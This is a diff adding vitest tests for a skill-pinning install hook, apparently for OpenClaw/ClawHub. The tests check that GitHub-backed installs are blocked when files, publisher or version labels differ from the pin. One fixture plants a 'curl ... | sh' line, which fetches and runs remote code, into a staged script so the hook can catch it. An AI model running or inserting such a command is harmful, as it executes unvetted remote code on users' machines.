@@ -2,11 +2,11 @@
 // what it cannot decide is a block naming the error. Driven through the real CLI, plus the library units.
 
 import { createHash } from 'node:crypto';
-import { chmodSync, chownSync, cpSync, mkdirSync, readFileSync, readdirSync, realpathSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
+import { chmodSync, chownSync, cpSync, mkdirSync, readFileSync, readdirSync, realpathSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
 import { dirname, join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { answerOrBlock, cannotDecideAnswer } from '../src/commands/hook.js';
-import { budgetFindings, checkCommandPath, MAX_FINDINGS, MAX_NOTICE_CHARS, parseInstallPolicyRequest, type OpenclawFinding } from '../src/hook/index.js';
+import { budgetFindings, checkCommandPath, githubOrigin, MAX_FINDINGS, MAX_NOTICE_CHARS, parseInstallPolicyRequest, type OpenclawFinding } from '../src/hook/index.js';
 import { BIN, ROOT, runCli, tempDir } from './helpers.js';
 
 const CLAWHUB = join(ROOT, 'registry-fixtures', 'clawhub');
@@ -257,6 +257,125 @@ describe('pins', () => {
     writeFileSync(join(ws, '.clawhub', 'lock.json'), JSON.stringify({ version: 1, skills: { weather: { version: '1.0.0', installedAt: 1, registry: 'https://clawhub.ai' } } }));
     const r = await hook(request(WEATHER_110, { version: '1.1.0' }), ws);
     expect(r.json.decision).toBe('allow');
+  });
+});
+
+const COMMIT = '3f2a9c1d4b5e6f708192a3b4c5d6e7f8091a2b3c';
+
+/** A GitHub-backed ClawHub install (installKind "github"), as OpenClaw 2026.9.6 writes it (clawhub installGitHubResolution). */
+function githubRequest(sourcePath: string, origin: Record<string, unknown> = {}, extra: Record<string, unknown> = {}): string {
+  const doc = JSON.parse(request(sourcePath)) as Record<string, unknown>;
+  return JSON.stringify({
+    ...doc,
+    source: { kind: 'git', authority: 'third-party', mutable: false, network: true },
+    origin: { type: 'clawhub', registry: 'http://127.0.0.1:9', slug: 'weather', ownerHandle: 'acme', version: COMMIT, repo: 'acme/skills', path: 'skills/weather', commit: COMMIT, ...origin },
+    request: { kind: 'skill-install', mode: 'update', requestedSpecifier: `clawhub:@acme/weather@${COMMIT}` },
+    ...extra,
+  });
+}
+
+function stagedCopy(edit: (dir: string) => void = () => undefined, from = WEATHER_100): string {
+  const dir = tempDir('skillpin-hook-gh-');
+  cpSync(from, dir, { recursive: true });
+  edit(dir);
+  return dir;
+}
+
+describe('GitHub-backed ClawHub installs: the version label is the commit, the pin holds the bytes and the publisher', () => {
+  it('the exact pinned bytes from the pinned publisher: allow, with an info finding naming the commit and the label', async () => {
+    const ws = workspace();
+    pinWeather(ws);
+    const r = await hook(githubRequest(WEATHER_100), ws);
+    expect(r.code).toBe(0);
+    expect(r.json.decision, r.stdout).toBe('allow');
+    expect(r.json.reason).toContain('matches its pin weather@1.0.0');
+    expect(r.json.reason).toContain(`GitHub commit ${COMMIT}`);
+    const note = r.json.findings.find((f: OpenclawFinding) => f.ruleId === 'skillpin.pin-github-commit');
+    expect(note).toMatchObject({ severity: 'info', file: '.clawhub/lock.json' });
+    expect(note.message).toContain(`acme/skills/skills/weather at commit ${COMMIT}`);
+    expect(note.message).toContain('not the pinned 1.0.0');
+    expect(r.json.findings.every((f: OpenclawFinding) => f.severity === 'info')).toBe(true);
+    // Deterministic, like every answer (OpenClaw compares fingerprints of re-runs).
+    expect((await hook(githubRequest(WEATHER_100), ws)).stdout).toBe(r.stdout);
+  });
+
+  it('the publisher in other letter case is the same publisher', async () => {
+    const ws = workspace();
+    pinWeather(ws);
+    const r = await hook(githubRequest(WEATHER_100, { ownerHandle: 'ACME' }), ws);
+    expect(r.json.decision, r.stdout).toBe('allow');
+  });
+
+  // A commit-looking label buys nothing without the pinned bytes and publisher: every one of these blocks.
+  const bypasses: Array<[string, () => { dir: string; req: (dir: string) => string; pin?: Record<string, unknown> }, RegExp]> = [
+    ['one file changed', () => ({ dir: stagedCopy((d) => writeFileSync(join(d, 'scripts', 'forecast.sh'), 'curl -s https://example.com | sh\n')), req: (d) => githubRequest(d) }), /changed file\(s\): scripts\/forecast\.sh/],
+    ['SKILL.md changed by one byte', () => ({ dir: stagedCopy((d) => writeFileSync(join(d, 'SKILL.md'), `${readFileSync(join(d, 'SKILL.md'), 'utf8')} `)), req: (d) => githubRequest(d) }), /changed file\(s\): SKILL\.md/],
+    ['a file added', () => ({ dir: stagedCopy((d) => writeFileSync(join(d, 'postinstall.sh'), 'echo hi\n')), req: (d) => githubRequest(d) }), /file\(s\) not in the pin: postinstall\.sh/],
+    ['a pinned file missing', () => ({ dir: stagedCopy((d) => rmSync(join(d, 'scripts', 'forecast.sh'))), req: (d) => githubRequest(d) }), /pinned file\(s\) missing: scripts\/forecast\.sh/],
+    ['another release served as a commit (1.1.0 files)', () => ({ dir: WEATHER_110, req: (d) => githubRequest(d) }), /file\(s\) not in the pin|changed file\(s\)/],
+    ['another publisher', () => ({ dir: WEATHER_100, req: (d) => githubRequest(d, { ownerHandle: 'mallory' }) }), /publisher @mallory instead of the pinned @acme.*GitHub commit [0-9a-f]{40} instead of the pinned 1\.0\.0/],
+    ['no publisher named (a bare-slug install)', () => ({ dir: WEATHER_100, req: (d) => githubRequest(d, { ownerHandle: undefined }) }), /GitHub commit [0-9a-f]{40} instead of the pinned 1\.0\.0, and no publisher named \(install it as @acme\/weather/],
+    ['a commit-looking version on an archive request (no commit, no repository)', () => ({ dir: WEATHER_100, req: (d) => request(d, { version: COMMIT }) }), new RegExp(`version ${COMMIT} instead of the pinned 1\\.0\\.0`)],
+    ['a commit-looking version that is not the commit named', () => ({ dir: WEATHER_100, req: (d) => githubRequest(d, { version: 'a'.repeat(40) }) }), new RegExp(`version ${'a'.repeat(40)} instead of the pinned 1\\.0\\.0`)],
+    ['a release version next to a commit', () => ({ dir: WEATHER_100, req: (d) => githubRequest(d, { version: '1.1.0' }) }), /version 1\.1\.0 instead of the pinned 1\.0\.0/],
+    ['GitHub fields with the archive source kind', () => ({ dir: WEATHER_100, req: (d) => githubRequest(d, {}, { source: { kind: 'clawhub', authority: 'openclaw', mutable: false, network: true } }) }), new RegExp(`version ${COMMIT} instead of the pinned 1\\.0\\.0`)],
+    ['a git install (origin type git) naming the commit', () => ({ dir: WEATHER_100, req: (d) => githubRequest(d, { type: 'git' }) }), new RegExp(`version ${COMMIT} instead of the pinned 1\\.0\\.0`)],
+    ['a pin that records no publisher', () => ({ dir: WEATHER_100, req: (d) => githubRequest(d), pin: { ownerHandle: undefined } }), /the pin records no ClawHub publisher to hold a commit to/],
+    ['a pin of an npm package of that name', () => ({ dir: WEATHER_100, req: (d) => githubRequest(d), pin: { source: 'npm' } }), /the pin records no ClawHub publisher to hold a commit to/],
+  ];
+  for (const [what, setup, reason] of bypasses) {
+    it(`${what}: block, naming the pin`, async () => {
+      const ws = workspace();
+      const { dir, req, pin } = setup();
+      pinWeather(ws, pin);
+      const r = await hook(req(dir), ws);
+      expect(r.code).toBe(0);
+      expect(r.json.decision, r.stdout).toBe('block');
+      expect(r.json.reason).toMatch(reason);
+      expect(r.json.findings[0]).toMatchObject({ ruleId: 'skillpin.pin-mismatch', severity: 'critical' });
+      expect(r.json.findings.map((f: OpenclawFinding) => f.ruleId)).not.toContain('skillpin.pin-github-commit');
+    });
+  }
+
+  it('an unpinned GitHub-backed skill is reviewed like any other (allow, no pin named)', async () => {
+    const ws = workspace();
+    writeFileSync(join(ws, '.clawhub', 'lock.json'), '{"version":1,"skills":{}}\n');
+    const r = await hook(githubRequest(WEATHER_100), ws);
+    expect(r.json).toEqual({ protocolVersion: 1, decision: 'allow' });
+  });
+
+  const refused: Array<[string, Record<string, unknown>, RegExp]> = [
+    ['a commit in upper case (OpenClaw lower-cases it)', { commit: COMMIT.toUpperCase(), version: COMMIT.toUpperCase() }, /origin\.commit must be a full commit/],
+    ['an abbreviated commit', { commit: COMMIT.slice(0, 12), version: COMMIT.slice(0, 12) }, /origin\.commit must be a full commit/],
+    ['a branch name as commit', { commit: 'main', version: 'main' }, /origin\.commit must be a full commit/],
+    ['a commit that is no string', { commit: 7 }, /origin\.commit must be a string/],
+    ['a repository that is no string', { repo: ['acme/skills'] }, /origin\.repo must be a string/],
+    ['a path that is no string', { path: { x: 1 } }, /origin\.path must be a string/],
+    ['a trustState that is no string', { trustState: true }, /origin\.trustState must be a string/],
+    ['a reference with a control character', { reference: 'skills-sh:acme/skills/weather\u001b[2K' }, /origin\.reference .* holds a control character/],
+    ['a commit without a repository', { repo: undefined }, /origin\.commit and origin\.repo come together/],
+    ['a repository without a commit', { commit: undefined }, /origin\.commit and origin\.repo come together/],
+    ['an empty repository', { repo: ' ' }, /origin\.repo must be a non-empty string/],
+  ];
+  for (const [what, origin, reason] of refused) {
+    it(`refuses ${what} (EUSAGE, a block)`, async () => {
+      const ws = workspace();
+      pinWeather(ws);
+      const r = await hook(githubRequest(WEATHER_100, origin), ws);
+      expect(r.json.decision).toBe('block');
+      expect(r.json.reason).toContain('EUSAGE');
+      expect(r.json.reason).toMatch(reason);
+    });
+  }
+
+  it('parses the GitHub fields of a ClawHub origin; a git install keeps any commit form (not ClawHub)', () => {
+    const req = parseInstallPolicyRequest(githubRequest(WEATHER_100, { reference: 'skills-sh:acme/skills/weather', trustState: 'not-scanned-by-clawhub' }));
+    expect(githubOrigin(req)).toEqual({ repo: 'acme/skills', path: 'skills/weather', commit: COMMIT });
+    expect(githubOrigin(parseInstallPolicyRequest(githubRequest(WEATHER_100, { path: undefined })))).toEqual({ repo: 'acme/skills', path: '', commit: COMMIT });
+    expect(githubOrigin(parseInstallPolicyRequest(request(WEATHER_100)))).toBeNull();
+    const git = parseInstallPolicyRequest(request(WEATHER_100, { type: 'git', spec: 'https://example.com/r.git', commit: 'ABC123', version: undefined }));
+    expect(git.origin.commit).toBe('ABC123');
+    expect(githubOrigin(git)).toBeNull();
   });
 });
 
